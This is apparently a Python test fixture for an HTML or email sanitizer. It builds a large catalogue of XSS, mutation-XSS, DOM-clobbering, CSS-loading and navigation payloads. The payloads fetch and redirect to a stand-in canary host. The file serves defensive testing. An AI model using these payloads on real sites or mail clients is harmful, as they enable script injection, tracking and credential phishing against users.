"""Layouts of mail that want to run, fetch or go somewhere, one way each, written for these tests.

`C` is the address of the listening server, `J` a script that tells that it ran and calls that server. What is
wrong with a vector is its name's business: none of them may do anything.
"""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Sequence
from typing import Final
from urllib.parse import quote

C: Final = "http://canary.invalid"
"""Stands for the listening server, until `aimed_at` puts its address there."""
J: Final = "console.log('pwned');alert(1);fetch('" + C + "/script');top.location='" + C + "/top'"
_HOST: Final = C.partition("//")[2]
_S: Final = f"<script>{J}</script>"
_B64: Final = b64encode(_S.encode()).decode()

SCRIPTS: Final = (
    _S,
    f"<SCRIPT>{J}</SCRIPT>",
    f"<script src={C}/s.js></script>",
    f'<script type=module src="{C}/m.js"></script>',
    f'<script type=module>import("{C}/i.js")</script>',
    f"<script src=data:text/javascript,{quote(J)}></script>",
    f"<script/x>{J}</script>",
    f"<script\n>{J}</script\n>",
    f"<scr<script>ipt>{J}</scr</script>ipt>",
    f"<script>{J}",
    f"<<script>{J}//<</script>",
    f"<script>//<!--\n{J}//--></script>",
    f'<script type=\'importmap\'>{{"imports":{{"a":"{C}/a"}}}}</script>',
    f'<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{C}/spec"]}}]}}</script>',
    f"<script nonce='' defer src='{C}/d.js'></script>",
    f'<noscript><p title="</noscript>{_S}">',
    f"<template>{_S}</template>",
    f"<template shadowrootmode=open>{_S}</template>",
    f'<div><template shadowrootmode=closed><img src=x onerror="{J}"></template></div>',
    f"<xmp><p title='</xmp>{_S}'></xmp>",
    f"<plaintext>{_S}",
    f"<comment>{_S}</comment>",
    f"<![CDATA[{_S}]]>",
    f"<?xml version='1.0'?>{_S}",
    f"<!-- --!>{_S}<!-- -->",
    f"<!-->{_S}<!-- -->",
    f'<!--><img src=x onerror="{J}">-->',
    f"<!doctype html [<!ENTITY x '{_S}'>]><p>&x;</p>",
)

HANDLERS: Final = tuple(
    f'<{tag} on{event}="{J}">'
    for tag, event in (
        ("img src=x", "error"),
        (f"img src={C}/load.png", "load"),
        ("body", "load"),
        ("body", "pageshow"),
        ("body", "hashchange"),
        ("svg", "load"),
        ("svg/", "load"),
        ("input autofocus", "focus"),
        ("select autofocus", "focus"),
        ("textarea autofocus", "focus"),
        ("a href=# autofocus tabindex=1", "focus"),
        ("details open", "toggle"),
        ("video autoplay src=x", "error"),
        ("audio src=x", "error"),
        ("video><source src=x", "error"),
        ("marquee", "start"),
        ("object data=x", "error"),
        ("embed src=x", "load"),
        ("iframe", "load"),
        ("iframe src=about:blank", "load"),
        ("frameset", "load"),
        ("link rel=stylesheet href=x", "error"),
        ("style", "load"),
        ("script src=x", "error"),
        ("p style=animation:x", "animationstart"),
        ("p style=transition:all", "transitionend"),
        ("div contenteditable autofocus", "focusin"),
        ("button popovertarget=q autofocus", "focus"),
        ("dialog open", "beforetoggle"),
        ("keygen autofocus", "focus"),
        ("isindex type=image src=1", "error"),
        ("image src=x", "error"),
        ("bgsound src=x", "error"),
        ("track src=x", "error"),
        ("math", "load"),
        ("p", "scrollsnapchange"),
        ("p", "securitypolicyviolation"),
        ("slot", "slotchange"),
    )
)
SPELLINGS: Final = (
    f"<img src=x onerror='{J.replace(chr(39), '`')}'>",
    f"<img/src=x/onerror={quote(J)}>",
    f'<img src=x oNeRrOr="{J}">',
    f'<img src=x onerror\n=\n"{J}">',
    f'<img src=x onerror\x0c="{J}">',
    f'<img src=x \x00onerror="{J}">',
    f'<img """><img src=x onerror="{J}">">',
    f'<img src=x:x onerror="{J.replace("console", "&#99;onsole")}">',
    f'<img src="x` `<script>{J}</script>"` `>',
    f'<style>@keyframes x{{from{{color:red}}}}</style><p style="animation:x 1s" onanimationstart="{J}">x',
    f'<a onpointerenter="{J}" onfocus="{J}" tabindex=0 autofocus>x</a>',
)

ADDRESSES: Final = tuple(
    f'<a href="{address}">press</a>'
    for address in (
        f"javascript:{J}",
        f"JaVaScRiPt:{J}",
        f" javascript:{J}",
        f"java\tscript:{J}",
        f"java\nscript:{J}",
        f"java&Tab;script:{J}",
        f"&#x6A;avascript:{J}",
        f"&#0000106avascript:{J}",
        f"javascript&colon;{J}",
        f"\x01javascript:{J}",
        f"\u00a0javascript:{J}",
        f"javascript://{C}/%0a{J}",
        f"vbscript:msgbox({J})",
        f"data:text/html,{quote(_S)}",
        f"data:text/html;base64,{_B64}",
        f"data:image/svg+xml;base64,{_B64}",
        f"blob:{C}/x",
        f"filesystem:{C}/x",
        f"view-source:{C}",
        f"//{_HOST}/schemeless",
        f"\\\\{_HOST}\\share",
        f"file://{_HOST}/share",
        f"https://bank.example@{_HOST}/",
        f"{C}/plain",
        f'{C}/ping" ping="{C}/ping',
        f'{C}/target" target="_top',
        f'{C}/new" target="_blank" rel="opener',
        f'{C}/down" download="x.exe',
        f'{C}/attribution" attributionsrc="{C}/attribution',
        "#frame",
        "?",
        "/v1/account",
        "cid:1",
        "about:srcdoc",
    )
)
LINKS: Final = (
    f"<map name=m><area shape=default href='{C}/area'></map><img usemap=#m src=cid:1 width=50 height=50>",
    f"<svg><a xlink:href='javascript:{quote(J)}'><text y=20>press</text></a></svg>",
    f"<svg><a href='{C}/svg'><text y=20>press</text></a></svg>",
    f"<math><maction actiontype='statusline#{C}' xlink:href='javascript:{quote(J)}'>press</maction></math>",
    f"<math href='javascript:{quote(J)}'><mtext>press</mtext></math>",
    f"<svg><use href='data:image/svg+xml;base64,{_B64}#x'/></svg>",
    f"<svg><use href='{C}/u.svg#x'/></svg>",
    f"<svg><set attributeName=href to='javascript:{quote(J)}'/><a id=x><text y=20>press</text></a></svg>",
    f"<svg><animate attributeName=href values='javascript:{quote(J)}' href=#x /><a id=x>press</a></svg>",
    f'<svg><animate onbegin="{J}" attributeName=x dur=1s>',
    f'<svg><set onend="{J}" attributeName=x dur=0.1s>',
)

FETCHES: Final = (
    f"<img src={C}/1.png>",
    f"<img src='{C}/2.png' width=1 height=1>",
    f"<img src=//{_HOST}/3.png>",
    f"<img srcset='{C}/4.png 1x, {C}/4b.png 2x'>",
    f"<picture><source srcset={C}/5.png><img src=x></picture>",
    f"<img src=x lowsrc={C}/6.png dynsrc={C}/6b.png longdesc={C}/6c>",
    f"<input type=image src={C}/7.png>",
    f"<video poster={C}/8.png src={C}/8.mp4 autoplay></video>",
    f"<audio src={C}/9.mp3 autoplay preload></audio>",
    f"<video autoplay><source src={C}/10.mp4><track default src={C}/10.vtt></video>",
    f"<body background={C}/11.png>",
    f"<table background={C}/12.png><tr><td background={C}/12b.png>x</table>",
    f"<object data={C}/13.swf></object>",
    f"<object classid=clsid:1 codebase={C}/14></object>",
    f"<embed src={C}/15.swf>",
    f"<applet code=x archive={C}/16.jar codebase={C}/16></applet>",
    f"<iframe src={C}/17></iframe>",
    f"<iframe src='//{_HOST}/18' loading=eager></iframe>",
    f"<frameset><frame src={C}/19></frameset>",
    f"<link rel=stylesheet href={C}/20.css>",
    f"<link rel=icon href={C}/21.ico>",
    f"<link rel=prefetch href={C}/22>",
    f"<link rel=preload as=image href={C}/23.png>",
    f"<link rel=modulepreload href={C}/24.js>",
    f"<link rel=prerender href={C}/25>",
    f"<link rel=preconnect href={C}>",
    f"<link rel=dns-prefetch href={C}>",
    f"<link rel=manifest href={C}/26.json>",
    f"<link rel=import href={C}/27.html>",
    f"<link rel=stylesheet href='data:text/css,@import url({C}/28.css)'>",
    f"<svg><image href={C}/29.png /></svg>",
    f"<svg><image xlink:href={C}/30.png width=9 height=9 /></svg>",
    f"<svg><feImage href={C}/31.png /></svg>",
    f"<svg><filter id=f><feImage href={C}/32.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    f"<svg><rect fill='url({C}/33.svg#x)' width=9 height=9 /></svg>",
    f"<svg><style>*{{fill:url({C}/34.svg#x)}}</style><rect width=9 height=9 /></svg>",
    f"<svg><script href={C}/35.js /></svg>",
    f"<svg><foreignObject><iframe src={C}/36></iframe></foreignObject></svg>",
    f"<?xml-stylesheet href='{C}/37.css'?><p>x",
    f"<img src='cid:1' style='content:url({C}/38.png)'>",
    (
        "<p><img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
        f"<image href='{C}/39'/></svg>\">"
    ),
    f"<img src='data:image/svg+xml;base64,{_B64}'>",
    f"<img src='blob:{C}/40'>",
    f"<p lang=en cite={C}/41><blockquote cite={C}/42>x</blockquote>",
    f"<portal src={C}/43></portal><fencedframe src={C}/44></fencedframe>",
    f"<img crossorigin src={C}/45.png importance=high fetchpriority=high>",
    f"<img src=https://user:secret@{_HOST}/46.png>",
    f"<table><td><img src={C}/47.png><tr><img src={C}/48.png>",
)

STYLES: Final = (
    *(
        f'<p style="{style}">x</p>'
        for style in (
            f"background:url({C}/s1.png)",
            f"background:URL( '{C}/s2.png' )",
            f"background:u\\72l({C}/s3.png)",
            f"background:\\75\\72\\6c({C}/s4.png)",
            f"background:u/**/rl({C}/s5.png)",
            f"background-image:image-set('{C}/s6.png' 1x)",
            f"background-image:-webkit-image-set(url({C}/s7.png) 1x)",
            f"background-image:-webkit-cross-fade(url({C}/s8.png),url({C}/s8b.png),50%)",
            f"list-style-image:url({C}/s9.png);display:list-item",
            f"list-style:url({C}/s10.png);display:list-item",
            f"cursor:url({C}/s11.cur),auto",
            f"border-image:url({C}/s12.png) 1",
            f"border-image-source:url({C}/s13.png)",
            f"mask:url({C}/s14.svg#m)",
            f"-webkit-mask-image:url({C}/s15.png)",
            f"-webkit-mask-box-image:url({C}/s16.png)",
            f"clip-path:url({C}/s17.svg#c)",
            f"filter:url({C}/s18.svg#f)",
            f"backdrop-filter:url({C}/s19.svg#f)",
            f"shape-outside:url({C}/s20.png);float:left",
            f"offset-path:url({C}/s21.svg#p)",
            f"content:url({C}/s22.png)",
            f"--x:url({C}/s23.png);background:var(--x)",
            f"--x:{C}/s24.png;background:url(var(--x))",
            f"background:src('{C}/s25.png')",
            f"behavior:url({C}/s26.htc)",
            f"-moz-binding:url({C}/s27.xml#b)",
            f"width:expression({J})",
            f"background:url(javascript:{quote(J)})",
            f"background:&#117;rl({C}/s28.png)",
            f"x:y}}*{{background:url({C}/s29.png)",
            f"background:url(data:image/svg+xml;base64,{_B64})",
            "position:fixed;inset:0;z-index:2147483647;background:#fff",
            "height:calc(100vh + 40px)",
        )
    ),
    *(
        f"<style>{sheet}</style><p class=x>x</p><ul><li>x</ul>"
        for sheet in (
            f"@import url({C}/t1.css);",
            f"@import '{C}/t2.css';",
            f"@\\69mport '{C}/t3.css';",
            f"@IMPORT url('{C}/t4.css') screen;",
            f"@import url({C}/t5.css) layer(x) supports(display:grid);",
            f"@font-face{{font-family:x;src:url({C}/t6.woff2)}}p{{font-family:x}}",
            f"p{{background:url({C}/t7.png)}}",
            f"@media all{{p{{background:url({C}/t8.png)}}}}",
            f"@supports(display:block){{p{{background:url({C}/t9.png)}}}}",
            f"@layer x{{p{{background:url({C}/t10.png)}}}}",
            f"@container(width>0){{p{{background:url({C}/t11.png)}}}}",
            f"@scope(p){{:scope{{background:url({C}/t12.png)}}}}",
            f"@keyframes k{{from,to{{background:url({C}/t13.png)}}}}p{{animation:k 1s infinite}}",
            (
                f"@property --x{{syntax:'<url>';inherits:true;initial-value:url({C}/t14.png)}}"
                "p{background:var(--x)}"
            ),
            f"@counter-style c{{system:cyclic;symbols:url({C}/t15.png)}}li{{list-style:c}}",
            f"p::before{{content:url({C}/t16.png)}}",
            f"li::marker{{content:url({C}/t17.png)}}",
            f":root{{--y:url({C}/t18.png)}}p{{background:var(--y)}}",
            f"p{{&.x{{background:url({C}/t19.png)}}}}",
            f":host{{background:url({C}/t20.png)}}:host-context(html){{background:url({C}/t20b.png)}}",
            f"@namespace url({C}/t21);p{{color:red}}",
            f"@page{{background:url({C}/t22.png)}}",
            f"p[title^='a']{{background:url({C}/t23.png)}}",
            f"p{{background:url('{C}/t24.png",
            f"<!--p{{background:url({C}/t25.png)}}-->",
            f"@starting-style{{p{{background:url({C}/t26.png)}}}}",
            f"@view-transition{{navigation:auto}}::view-transition{{background:url({C}/t27.png)}}",
            f"}}</style>{_S}<style>{{",
            f'</style><img src=x onerror="{J}">',
        )
    ),
)

PLACES: Final = (
    f"<meta http-equiv=refresh content='0;url={C}/meta'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{quote(J)}'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html;base64,{_B64}'>",
    "<meta http-equiv=refresh content='0;url=/v1/relay'>",
    f"<META HTTP-EQUIV='ReFrEsH' CONTENT='0; URL=\"{C}/meta2\"'>",
    f"<p><meta name=referrer content=unsafe-url><img src={C}/ref.png>",
    "<meta http-equiv=content-security-policy content=\"script-src 'unsafe-inline'\">" + _S,
    f"<meta http-equiv=set-cookie content='a=b'><meta http-equiv=link content='<{C}/l>;rel=preload'>",
    f"<base href={C}/><img src=base.png><a href=base>press</a>",
    f"<base target=_top><a href={C}/basetop>press</a>",
    f"<form action={C}/form><input name=a value=b><button>press</button></form>",
    f"<form action={C}/form2 id=f></form><button form=f>press</button>",
    f"<form><button formaction={C}/form3>press</button></form>",
    f"<form action=javascript:{quote(J)}><input type=submit value=press></form>",
    f"<form method=dialog action={C}/form4><input type=image src=x></form>",
    f"<form action={C}/form5><input type=password name=p autofocus autocomplete=current-password></form>",
    f"<isindex action={C}/isindex>",
    f'<iframe srcdoc="<script>{J}</script>"></iframe>',
    f"<iframe srcdoc='<meta http-equiv=refresh content=0;url={C}/inner>'></iframe>",
    f"<iframe srcdoc='<img src={C}/inner.png>'></iframe>",
    f"<iframe srcdoc='<style>@import url({C}/inner.css)</style>'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;{J.replace(chr(39), '&apos;')}&lt;/script&gt;'></iframe>",
    f'<iframe src="javascript:{J}"></iframe>',
    f"<iframe src='data:text/html;base64,{_B64}'></iframe>",
    "<iframe src=/inbox/frame.html></iframe>",
    "<iframe src=/v1/relay></iframe>",
    f'<iframe name="{J}" src=about:blank></iframe>',
    f"<object data='data:text/html;base64,{_B64}'></object>",
    f'<object data="javascript:{J}"></object>',
    f"<embed src='data:text/html;base64,{_B64}'>",
    f'<embed src="javascript:{J}" type=text/html>',
    "<iframe sandbox='allow-scripts allow-same-origin allow-top-navigation' srcdoc=\"" + _S + '"></iframe>',
    "<iframe csp=\"script-src 'unsafe-inline'\" allow=camera src=about:blank></iframe>",
    f"<dialog open><form method=get action={C}/dialog><button autofocus>press</button></form></dialog>",
)

MUTANTS: Final = (
    f'<svg></p><style><a id="</style><img src=1 onerror={J}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={J}&gt;">',
    f'<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror={J}">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={J}>",
    f'<svg><style><img title="</style><img src onerror={J}>"></style></svg>',
    f'<svg><p><style><g title="</style><img src=x onerror={J}>">',
    f"<svg><desc><svg><image href=1 onerror={J}></desc></svg>",
    f'<svg><title><style><a title="</style></title></svg><img src=x onerror={J}>">',
    f'<math><annotation-xml encoding=text/html><style><img title="</style><img src onerror={J}>">',
    f"<math><annotation-xml encoding='text/html'><svg><style>&lt;img src=x onerror={J}&gt;</style></svg>",
    f'<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror={J} src>">',
    f"<noscript><style></noscript><img src=x onerror={J}></style>",
    f'<noembed><img title="</noembed><img src=x onerror={J}>"></noembed>',
    f'<noframes><img title="</noframes><img src=x onerror={J}>"></noframes>',
    f'<textarea><img title="</textarea><img src=x onerror={J}>"></textarea>',
    f'<title><img title="</title><img src=x onerror={J}>"></title>',
    f'<select><style><img title="</style><img src=x onerror={J}>"></select>',
    f"<select><template><img src=x onerror={J}></template></select>",
    f"<option><style></option></select><b><img src=x onerror={J}></style></option>",
    f"<table><caption><svg><style></table><img src=x onerror={J}></style>",
    f"<p><svg><foreignObject><p><style><!--</style><img src=x onerror={J}>--></p></foreignObject></svg>",
    "<div>" * 600 + f"<img src=x onerror={J}>" + "</div>" * 600,
    "<b>" * 600 + f"<svg><style><img title='</style><img src=x onerror={J}>'>",
    "<form>" * 600 + f"<math><mtext></form><mglyph><style></math><img src onerror={J}>",
    f"<a <script>{J}</script>>x</a>",
    f"<a href='x' title='\"><script>{J}</script>'>x</a>",
    f"<img alt='`><script>{J}</script>'>",
    f"<x\x00script>{J}</x\x00script>",
    f"\ufeff<\ufeffscript>{J}</script>",
    f"+ADw-script+AD4-{J}+ADw-/script+AD4-",
    f"\u00bcscript\u00be{J}\u00bc/script\u00be",
    f"\uff1cscript\uff1e{J}\uff1c/script\uff1e",
    f"\x1b$B<script>\x1b(B{J}</script>",
    f"%3Cscript%3E{J}%3C/script%3E",
    f"&lt;script&gt;{J}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{J}",
    f"<p title='&quot;&gt;&lt;script&gt;{J}&lt;/script&gt;'>x</p>",
    f"<selectedcontent><img src=x onerror={J}></selectedcontent>",
    f'<svg><style>&lt;!--</style><a title="--&gt;&lt;img src onerror={J}&gt;"></a></svg>',
    f"<math><!--<style>--><img title='--><img src=x onerror={J}>'></math>",
)

CLOBBERS: Final = (
    "<form id=body><input name=parentNode><input name=attributes><input name=removeChild></form>" + _S,
    f'<form name=attributes><input name=nodeName><img src=x onerror="{J}"></form>',
    f'<img name=createElement><img name=adoptedStyleSheets><img src=x onerror="{J}">',
    f"<a id=defaultView href={C}/clobber><a id=defaultView name=trustedTypes href={C}/clobber>",
    (
        "<form id=documentElement><input name=lang><input name=getBoundingClientRect></form>"
        f'<img src=x onerror="{J}">'
    ),
    f"<a id=DOMPurify name=isSupported><img id=parent name=postMessage src={C}/c.png>",
    "<iframe name=parent srcdoc=x></iframe><iframe name=top srcdoc=x></iframe>",
    f"<form><input name=style><p style='background:url({C}/clob.png)'></form>",
    f"<form style='background:url({C}/clob2.png)'><input name=style><input name=hasAttribute></form>",
    f"<form href={C}/x><input name=getAttribute><input name=removeAttribute></form>",
    f"<img name=getElementById><img name=querySelectorAll src={C}/clob3.png>",
    "<custom-element is=x-y>x</custom-element><p is=x-y>x</p><slot name=x></slot>",
)

LAYOUTS: Final = (
    *SCRIPTS,
    *HANDLERS,
    *SPELLINGS,
    *ADDRESSES,
    *LINKS,
    *FETCHES,
    *STYLES,
    *PLACES,
    *MUTANTS,
    *CLOBBERS,
)


_OPENERS: Final = ("script", "style", "title", "textarea", "noscript", "xmp", "template", "select", "table")
CLOSED: Final = "\n-->" + "".join(f"</{tag}>" for tag in (*_OPENERS, "svg", "math", "form"))
"""Ends whatever a layout has left open."""


def together(layouts: Sequence[str]) -> str:
    """Several layouts in one: the time of a test goes by documents."""
    return f"{CLOSED}<p>".join(layouts)


def aimed_at(origin: str) -> list[str]:
    """All layouts, with the listening server's own address."""
    host = origin.partition("//")[2]
    return [layout.replace(_HOST, host) for layout in LAYOUTS]
